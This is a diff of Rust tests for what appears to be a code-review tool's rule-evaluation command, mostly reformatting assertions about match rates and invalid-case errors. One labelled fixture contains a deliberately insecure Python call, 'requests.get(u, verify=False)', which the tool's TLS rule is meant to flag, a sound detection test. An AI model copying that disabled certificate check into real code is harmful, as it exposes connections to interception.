+        labelled("tls-2", off, &[3], &[2]),
+    ]
+    .join("\n");
     std::fs::create_dir(dir.path().join("set")).unwrap();
     std::fs::write(dir.path().join("set/a.jsonl"), cases).unwrap();
     std::fs::write(dir.path().join("set/notes.txt"), "no case").unwrap();
@@ -565,8 +863,14 @@ fn rules_eval_measures_labelled_cases() {
         last,
         "2 cases: 1 of 2 expected lines found (50.0%), 1 with any severity (50.0%); 1 of 2 safe lines flagged (50.0%)"
     );
-    assert!(text.contains("  set/a.jsonl:2 tls-2 line 3: requests.get(u, verify=True)\n"), "{text}");
-    assert!(text.contains("tls-2 line 2 (python-tls-verify-off): requests.get(u, verify=False)\n"), "{text}");
+    assert!(
+        text.contains("  set/a.jsonl:2 tls-2 line 3: requests.get(u, verify=True)\n"),
+        "{text}"
+    );
+    assert!(
+        text.contains("tls-2 line 2 (python-tls-verify-off): requests.get(u, verify=False)\n"),
+        "{text}"
+    );
     let (json, _) = eval(&["set/a.jsonl", "--format", "json"], 0);
     let report: Value = serde_json::from_str(&json).unwrap();
     assert_eq!(report["total"]["found"], 1);
@@ -575,29 +879,53 @@ fn rules_eval_measures_labelled_cases() {
     assert_eq!(report["cases"][0]["findings"][0]["line"], 2);
 }
 
-/// The rules, the tables and the lowering of each language are measured together. The shares are a little below those of
-/// `docs/benchmarks.md`, so that a rule can be corrected without a change here, and a broken language cannot.
+/// The rules, the tables and the lowering of each language are measured together. The shares are a
+/// little below those of `docs/benchmarks.md`, so that a rule can be corrected without a change
+/// here, and a broken language cannot.
 #[test]
 fn the_labelled_cases_of_the_project_are_found_and_their_safe_lines_are_not_flagged() {
     let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
     let home = tempfile::TempDir::new().unwrap();
-    let run = reviewer(root, home.path(), &["rules", "eval", "fixtures/rules", "--format", "json"]).run(0);
+    let run = reviewer(
+        root,
+        home.path(),
+        &["rules", "eval", "fixtures/rules", "--format", "json"],
+    )
+    .run(0);
     let report: Value = serde_json::from_str(&run.stdout).unwrap();
     let share = |of: &Value, part: &str, whole: &str| {
         let count = |key: &str| of[key].as_f64().unwrap();
-        if count(whole) == 0.0 { 0.0 } else { count(part) / count(whole) }
+        if count(whole) == 0.0 {
+            0.0
+        } else {
+            count(part) / count(whole)
+        }
     };
     let total = &report["total"];
-    assert!(share(total, "found", "expected") > 0.88 && share(total, "flagged", "safe") < 0.002, "{total}");
+    assert!(
+        share(total, "found", "expected") > 0.88 && share(total, "flagged", "safe") < 0.002,
+        "{total}"
+    );
     let languages = report["by_language"].as_object().unwrap();
-    let large = || languages.iter().filter(|(_, of)| of["expected"].as_u64().unwrap() >= 80);
+    let large = || {
+        languages
+            .iter()
+            .filter(|(_, of)| of["expected"].as_u64().unwrap() >= 80)
+    };
     assert!(large().count() >= 10, "{languages:?}");
     for (name, of) in large() {
-        assert!(share(of, "found", "expected") > 0.74 && share(of, "flagged", "safe") < 0.01, "{name}: {of}");
+        assert!(
+            share(of, "found", "expected") > 0.74 && share(of, "flagged", "safe") < 0.01,
+            "{name}: {of}"
+        );
     }
     // Data that is validated is a promise about false alarms.
     for list in ["misses", "false_alarms"] {
-        let ids = report[list].as_array().unwrap().iter().map(|of| of["id"].as_str().unwrap());
+        let ids = report[list]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|of| of["id"].as_str().unwrap());
         let validated: Vec<_> = ids.filter(|id| id.starts_with("validated-")).collect();
         assert!(validated.is_empty(), "{list}: {validated:?}");
     }
@@ -608,17 +936,30 @@ fn rules_eval_names_the_file_and_line_of_an_invalid_case() {
     let dir = tempfile::TempDir::new().unwrap();
     let good = labelled("a", "x = 1\n", &[1], &[]);
     let write = |text: &str| std::fs::write(dir.path().join("a.jsonl"), text).unwrap();
-    let error = || reviewer(dir.path(), dir.path(), &["rules", "eval", "."]).run(2).stderr;
+    let error = || {
+        reviewer(dir.path(), dir.path(), &["rules", "eval", "."])
+            .run(2)
+            .stderr
+    };
     assert!(error().contains("no case in ."), "{}", error());
     for (bad, why) in [
         ("{\"id\": 1".to_owned(), "invalid type"),
         ("not JSON".to_owned(), "expected"),
-        (good.replace("\"safe\":[]", "\"other\":[]"), "missing field `safe`"),
-        (labelled("b", "x = 1\n", &[1], &[7]), "safe: line 7 is outside of the code, which has 1 lines"),
+        (
+            good.replace("\"safe\":[]", "\"other\":[]"),
+            "missing field `safe`",
+        ),
+        (
+            labelled("b", "x = 1\n", &[1], &[7]),
+            "safe: line 7 is outside of the code, which has 1 lines",
+        ),
     ] {
         write(&format!("{good}\n\n{bad}\n"));
         let text = error();
-        assert!(text.starts_with("error: ./a.jsonl:3: invalid case: ") && text.contains(why), "{text}");
+        assert!(
+            text.starts_with("error: ./a.jsonl:3: invalid case: ") && text.contains(why),
+            "{text}"
+        );
         assert!(text.contains("hint: each line is a JSON object"), "{text}");
     }
 }
